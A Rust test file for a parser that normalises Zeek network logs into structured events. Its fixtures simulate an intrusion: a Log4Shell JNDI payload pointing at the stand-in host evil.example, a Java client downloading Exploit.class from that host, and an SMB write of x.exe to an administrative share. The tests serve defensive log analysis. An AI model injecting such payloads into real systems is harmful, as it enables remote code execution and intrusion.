//! Zeek logs written here in both of Zeek's forms, with the header Zeek writes.

use super::*;

fn tsv(path: &str, fields: &str, types: &str, rows: &[&str]) -> String {
    let mut s = format!(
        "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\t{path}\n#open\t2026-11-30-10-00-00\n#fields\t{fields}\n#types\t{types}\n"
    );
    for r in rows {
        s.push_str(r);
        s.push('\n');
    }
    s + "#close\t2026-11-30-11-00-00\n"
}

#[test]
fn a_conn_line_is_a_connection_with_its_addresses_ports_and_direction() {
    let text = tsv(
        "conn",
        "ts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\torig_bytes\tresp_bytes\tlocal_orig\tlocal_resp",
        "time\tstring\taddr\tport\taddr\tport\tenum\tstring\tcount\tcount\tbool\tbool",
        &["1764496800.250000\tCx1\t10.0.0.5\t49152\t203.0.113.9\t443\ttcp\tssl\t512\t4096\tT\tF", "garbage"],
    );
    let p = parse(&text, "/var/log/zeek/current/conn.log");
    assert_eq!((p.kind.as_str(), p.events.len(), p.skipped), ("conn", 1, 1));
    let e = &p.events[0];
    assert_eq!(e["@timestamp"], "2025-11-30T10:00:00.250000Z");
    assert_eq!(
        (e["event"]["category"].as_str(), e["event"]["action"].as_str()),
        (Some("network"), Some("connection"))
    );
    assert_eq!((e["source"]["ip"].as_str(), e["source"]["port"].as_i64()), (Some("10.0.0.5"), Some(49152)));
    assert_eq!(
        (e["destination"]["ip"].as_str(), e["destination"]["port"].as_i64()),
        (Some("203.0.113.9"), Some(443))
    );
    assert_eq!(
        (e["network"]["transport"].as_str(), e["network"]["direction"].as_str()),
        (Some("tcp"), Some("outbound"))
    );
    assert_eq!(e["zeek"]["conn"]["uid"], "Cx1", "the record stays for rules");
}

#[test]
fn notice_http_dns_and_files_carry_what_a_sweep_looks_for() {
    let notice = tsv(
        "notice",
        "ts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tnote\tmsg\tsub\tsrc\tdst\tp\tactions",
        "time\tstring\taddr\tport\taddr\tport\tenum\tstring\tstring\taddr\taddr\tport\tset[enum]",
        &[
            "1764496801.000000\tCx2\t198.51.100.7\t40000\t10.0.0.8\t80\tLOG4J::Exploit\tJNDI lookup in a header\t${jndi:ldap://evil.example/a}\t198.51.100.7\t10.0.0.8\t80\tNotice::ACTION_LOG,Notice::ACTION_EMAIL",
        ],
    );
    let e = &parse(&notice, "notice.log").events[0];
    assert_eq!(
        (e["event"]["category"].as_str(), e["rule"]["name"].as_str()),
        (Some("intrusion_detection"), Some("LOG4J::Exploit"))
    );
    assert_eq!(e["message"], "JNDI lookup in a header: ${jndi:ldap://evil.example/a}");
    assert_eq!(e["zeek"]["notice"]["actions"], json!(["Notice::ACTION_LOG", "Notice::ACTION_EMAIL"]));
    // Zeek's JSON form: flat dotted names; `_path` says the log.
    let http = r#"{"_path":"http","ts":1764496802.5,"uid":"Cx3","id.orig_h":"10.0.0.8","id.orig_p":51000,"id.resp_h":"198.51.100.7","id.resp_p":80,"method":"GET","host":"evil.example","uri":"/a/Exploit.class","user_agent":"Java/1.8.0_51","status_code":200}"#;
    let e = &parse(http, "eve.json").events[0];
    assert_eq!(
        (e["url"]["full"].as_str(), e["url"]["domain"].as_str()),
        (Some("http://evil.example/a/Exploit.class"), Some("evil.example"))
    );
    assert_eq!(
        (e["user_agent"]["original"].as_str(), e["http"]["response"]["status_code"].as_i64()),
        (Some("Java/1.8.0_51"), Some(200))
    );
    let dns = r#"{"ts":"2025-11-30T10:00:03Z","id.orig_h":"10.0.0.8","id.resp_h":"10.0.0.2","query":"evil.example","answers":["evil.example.cdn.net","198.51.100.7"]}"#;
    let e = &parse(dns, "dns.log").events[0];
    assert_eq!(
        (e["dns"]["question"]["name"].as_str(), e["dns"]["resolved_ip"].clone()),
        (Some("evil.example"), json!(["198.51.100.7"]))
    );
    assert_eq!(e["@timestamp"], "2025-11-30T10:00:03.000000Z");
    let files = r#"{"_path":"files","ts":1764496804,"tx_hosts":["198.51.100.7"],"rx_hosts":["10.0.0.8"],"md5":"D41D8CD98F00B204E9800998ECF8427E","filename":"Exploit.class","mime_type":"application/x-java-applet"}"#;
    let e = &parse(files, "x").events[0];
    assert_eq!(
        (e["source"]["ip"].as_str(), e["file"]["hash"]["md5"].as_str()),
        (Some("198.51.100.7"), Some("d41d8cd98f00b204e9800998ecf8427e"))
    );
}

#[test]
fn kerberos_smb_and_unknown_logs_are_kept() {
    let k = r#"{"_path":"kerberos","ts":1764496805,"id.orig_h":"10.0.0.9","id.resp_h":"10.0.0.2","request_type":"AS","client":"svc_sql/CORP.LOCAL","service":"krbtgt/CORP.LOCAL","success":false,"error_msg":"KDC_ERR_PREAUTH_FAILED"}"#;
    let e = &parse(k, "kerberos.log").events[0];
    assert_eq!(
        (e["event"]["category"].as_str(), e["event"]["outcome"].as_str()),
        (Some("authentication"), Some("failure"))
    );
    assert_eq!(
        (e["user"]["name"].as_str(), e["user"]["domain"].as_str()),
        (Some("svc_sql"), Some("CORP.LOCAL"))
    );
    let smb = r#"{"_path":"smb_files","ts":1764496806,"id.orig_h":"10.0.0.9","id.resp_h":"10.0.0.3","action":"SMB::FILE_OPEN","path":"\\\\FS01\\C$","name":"Windows\\Temp\\x.exe"}"#;
    let e = &parse(smb, "smb_files.log").events[0];
    assert_eq!(e["file"]["path"], "\\\\FS01\\C$\\Windows\\Temp\\x.exe");
    let other = r#"{"_path":"weird","ts":1764496807,"id.orig_h":"10.0.0.9","name":"bad_TCP_checksum"}"#;
    let e = &parse(other, "weird.log").events[0];
    assert_eq!(
        (e["event"]["action"].as_str(), e["zeek"]["weird"]["name"].as_str()),
        (Some("zeek-record"), Some("bad_TCP_checksum"))
    );
}
